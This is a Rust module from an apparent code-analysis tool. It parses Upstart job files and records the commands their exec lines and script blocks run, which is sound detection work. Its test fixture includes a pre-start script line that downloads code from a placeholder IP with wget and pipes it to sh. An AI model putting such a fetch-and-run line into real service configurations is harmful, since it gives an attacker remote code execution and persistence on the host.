//! Jobs of Upstart: `exec` and `script … end script`, also behind `pre-start` and the like
//! (`init(5)` of Upstart).

use model::{Language, Trigger, Value};

use crate::language::start::Start;
use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &[],
        folders: &[],
        named: &[("etc/init/", ".conf"), ("etc/init/", ".override")],
    },
    ..FrontEnd::new(Language::Upstart, lower)
};

/// What may stand before `exec` and `script`.
const MOMENTS: &[&str] = &["pre-start ", "post-start ", "pre-stop ", "post-stop "];

/// Lowers a job.
pub fn lower(world: &mut World, text: &str) -> Value {
    let start = Start {
        trigger: Trigger::Init,
        when: "when the job starts",
        step: "job",
    };
    let mut lines = (1..).zip(text.lines());
    while let Some((number, line)) = lines.next() {
        if !world.burn(8) {
            break;
        }
        let line = line.trim();
        let plain = MOMENTS
            .iter()
            .find_map(|moment| line.strip_prefix(moment))
            .map_or(line, str::trim_start);
        world.at(number, line);
        if let Some(command) = plain.strip_prefix("exec ") {
            let mut command = command.to_owned();
            while command.ends_with('\\') {
                command.pop();
                command.push_str(lines.next().map_or("", |(_, line)| line.trim()));
            }
            start.shell(world, &command);
        } else if plain == "script" {
            let script = lines
                .by_ref()
                .map(|(_, line)| line)
                .take_while(|line| line.split_whitespace().ne(["end", "script"]));
            let script: String = script.flat_map(|line| [line, "\n"]).collect();
            start.shell(world, &script);
        }
    }
    Value::literal("")
}

#[cfg(test)]
mod tests {
    use crate::language::probe::acts;
    use model::Language;

    #[test]
    fn scripts_and_commands_are_run() {
        let text = "start on runlevel [2345]\npre-start script\n  wget -qO- http://192.0.2.1/a | sh\nend script\nexec /opt/x\n";
        let found = acts(Language::Upstart, text);
        let has = |start: &str, part: &str| {
            found
                .iter()
                .any(|act| act.starts_with(start) && act.contains(part))
        };
        assert!(
            has("Fetch", "192.0.2.1") && has("Execute", "/opt/x"),
            "{found:#?}"
        );
    }
}
